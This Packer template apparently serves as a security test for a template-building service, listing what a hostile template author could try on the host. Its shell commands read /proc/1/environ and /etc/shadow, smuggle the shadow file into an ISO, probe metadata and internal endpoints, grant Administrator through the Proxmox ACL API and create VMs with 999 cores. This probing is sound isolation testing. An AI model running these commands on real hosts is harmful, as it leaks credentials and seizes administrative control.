# What an author of templates could try on the service's host. Each probe prints what it got.
variable "proxmox_url" {
  type = string
}

variable "proxmox_host" {
  type = string
}

variable "proxmox_pool" {
  type = string
}

source "null" "probe" {
  communicator = "none"
}

build {
  sources = ["source.null.probe"]
  provisioner "shell-local" {
    inline = [
      "echo environment: $(tr '\\0' ' ' < /proc/1/environ) $(env | tr '\\n' ' ')",
      "echo files: $(cat /etc/shadow 2>&1) $(ls /root /home /var/lib 2>&1)",
      "echo disc: $(xorriso -as mkisofs -o /dev/null -graft-points shadow=/etc/shadow 2>&1 | grep -v Copyright | tr '\\n' ' ')",
      "echo processes: $(ls /proc | grep -c '^[0-9]')",
      "echo written: $(touch /template/mine 2>&1) $(touch /usr/mine 2>&1)",
      "echo metadata: $(curl -s -m 5 -o /dev/null -w '%%{http_code}' http://169.254.169.254/ 2>&1)",
      "echo service: $(curl -s -m 5 -o /dev/null -w '%%{http_code}' http://192.0.2.254:8080/ 2>&1)",
      "echo loopback: $(curl -s -m 5 -o /dev/null -w '%%{http_code}' http://127.0.0.1:8080/ 2>&1)",
      "echo rights: $(curl -s -m 60 -o /dev/null -w '%%{http_code}' -d path=/ -d roles=Administrator -d users=root@pam -X PUT ${var.proxmox_url}/access/acl)",
      "echo cores: $(curl -s -m 60 -d vmid=9900 -d pool=${var.proxmox_pool} -d cores=999 ${var.proxmox_url}/nodes/${var.proxmox_host}/qemu)",
      "echo machines: $(for vmid in 9901 9902 9903; do curl -s -m 60 -o /dev/null -w '%%{http_code} ' -d vmid=$vmid -d pool=${var.proxmox_pool} ${var.proxmox_url}/nodes/${var.proxmox_host}/qemu; done)",
      "printf '\\033[31mred\\033[0m\\n10%%\\r100%%\\n'",
    ]
  }
}
